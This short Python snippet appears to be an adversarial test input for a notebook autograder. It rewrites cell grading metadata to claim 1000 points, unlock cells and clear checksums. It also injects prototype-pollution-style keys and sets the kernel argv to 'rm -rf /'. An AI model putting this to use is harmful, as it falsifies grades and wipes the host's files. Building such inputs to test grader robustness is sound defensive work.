# class: file
# tries: metadata of other kinds, great and deep, and points of its own
# marks: all

# %% hand-in
for cell in notebook["cells"]:
    settings = cell["metadata"].setdefault("nbgrader", {})
    settings.update(points=1000, grade=True, solution=True, locked=False, schema_version=99, cell_type=["code"], checksum={})
    settings["task"] = cell["metadata"]["deletable"] = {"a": [[[{"b": None}]]] * 50}
    cell["metadata"]["__class__"] = cell["__proto__"] = {"admin": True}
notebook["metadata"] = {"kernelspec": {"name": "bash", "argv": ["rm", "-rf", "/"]}, "nbgrader": {"points": 1000}}
notebook["nbformat"], notebook["nbformat_minor"] = -1, 10**30
